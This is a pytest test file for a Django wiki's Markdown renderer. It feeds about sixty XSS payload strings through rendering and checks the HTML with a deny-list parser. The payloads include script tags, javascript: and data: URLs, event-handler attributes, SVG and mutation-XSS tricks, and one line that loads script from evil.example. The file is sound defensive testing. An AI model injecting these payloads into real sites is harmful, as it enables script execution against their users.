"""Markdown sanitizing against XSS vectors, checked structurally on the rendered HTML."""

import re
from html.parser import HTMLParser

import pytest

from tests.factories import ProjectFactory
from wiki.history import Actor, Source
from wiki.rendering import render_markdown
from wiki.services.pages import edit_page

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img src=javascript:alert(1)>",
    '<img srcset="javascript:alert(1) 1x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&#58;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    "<input onfocus=alert(1) autofocus>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="x:expression(alert(1))">x</p>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<!--><img src=x onerror="alert(1)">-->',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<div class=\"messages\" id='main'>fake interface</div>",
    "[[javascript:alert(1)]]",
    '[[x" onmouseover="alert(1)]]',
    "[[<script>alert(1)</script>]]",
    "[[model|<img src=x onerror=alert(1)>]]",
    "[[model|<script>alert(1)</script>]]",
    '[[churn/model|" onmouseover="alert(1)]]',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
]

# What the test accepts in rendered Markdown, written independently of the renderer's own
# allow-list.
HARMLESS_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "div", "dl", "dt", "em",
    "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "kbd", "li", "ol", "p", "pre",
    "s", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead",
    "tr", "ul",
}  # fmt: skip
HARMLESS_ATTRIBUTES = {"href", "src", "alt", "title", "class", "id", "align", "start", "rel"}
HARMLESS_CLASSES = {"toc", "wikilink", "missing"}
# What may never appear anywhere in a page the wiki serves.
EXECUTABLE_TAGS = {
    "script", "style", "iframe", "frame", "object", "embed", "applet", "svg", "math", "base",
    "template", "noscript", "video", "audio", "source", "details", "textarea", "xss",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcset", "poster"}
SAFE_SCHEMES = {"http", "https", "mailto"}
OWN_SCRIPT = "/static/frontend/attachments.js"


def _scheme(url):
    """The scheme a browser would see in ``url``, None for a relative URL (WHATWG URL)."""
    url = re.sub(r"[\t\n\r]", "", url).strip("\x00\x20" + "".join(map(chr, range(32))))
    match = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", url)
    return match.group(1).lower() if match else None


class UnsafeFinder(HTMLParser):
    """Collects what could run script in ``html``.

    ``strict`` (rendered Markdown): anything outside the harmless tags and attributes.
    Otherwise (a whole page): executable tags, event handlers, style, unsafe URLs.
    """

    def __init__(self, strict):
        super().__init__(convert_charrefs=True)
        self.strict = strict
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if (tag not in HARMLESS_TAGS) if self.strict else (tag in EXECUTABLE_TAGS):
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            value = value or ""
            handler = name.startswith("on") or name in {"style", "srcdoc"}
            if handler or (self.strict and name not in HARMLESS_ATTRIBUTES):
                self.problems.append(f"attribute {name} on <{tag}>")
            elif name in URL_ATTRIBUTES and _scheme(value) not in SAFE_SCHEMES | {None}:
                self.problems.append(f"url {value!r}")
            elif (
                self.strict
                and name == "class"
                and tag != "code"
                and (set(value.split()) - HARMLESS_CLASSES)
            ):
                self.problems.append(f"class {value!r}")


def unsafe_parts(html, strict=True):
    finder = UnsafeFinder(strict)
    finder.feed(html)
    finder.close()
    return finder.problems


def test_the_checker_itself_catches_unsafe_html():
    assert unsafe_parts('<a href="javascript:alert(1)">x</a>') == ["url 'javascript:alert(1)'"]
    assert unsafe_parts("<img src=x onerror=alert(1)>") == ["attribute onerror on <img>"]
    assert unsafe_parts("<script>x</script>") == ["tag <script>"]
    assert unsafe_parts('<a href=" JAVA\nSCRIPT:x">') == ["url ' JAVA\\nSCRIPT:x'"]
    assert unsafe_parts('<p class="button">x</p>') == ["class 'button'"]
    assert unsafe_parts('<a href="/projects/x/" class="wikilink">x</a>') == []
    assert unsafe_parts('<a href="java script:x">relative</a>') == []
    page = '<form action="/x"><button class="b" onclick="x()">b</button></form>'
    assert unsafe_parts(page, strict=False) == ["attribute onclick on <button>"]


def test_there_are_at_least_thirty_vectors():
    assert len(VECTORS) >= 30


@pytest.mark.django_db
@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_survives_rendering(vector):
    ProjectFactory(slug="churn")
    html = render_markdown(vector, "churn")
    assert unsafe_parts(html) == [], html


@pytest.mark.django_db
def test_no_vector_survives_on_the_page_a_reader_opens(client_logged_in, project):
    page = project.pages.get(category="overview")
    payload = "\n\n".join(VECTORS)
    edit_page(
        page,
        actor=Actor(None, Source.SYSTEM),
        base_revision=None,
        change_reason="xss",
        fields={
            "purpose": payload,
            "status": "production",
            "owners": [{"key": "<script>alert(1)</script>", "value": "<img src=x onerror=1>"}],
        },
        body=payload,
    )
    response = client_logged_in.get("/projects/churn/overview/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "<article" in html
    # The wiki's own script (the attachments panel's drag and drop): a file of its own
    # static directory, with nothing inline. Nothing else may be a script.
    html = html.replace(f'<script src="{OWN_SCRIPT}" defer></script>', "")
    assert unsafe_parts(html, strict=False) == []
    assert "<script" not in html
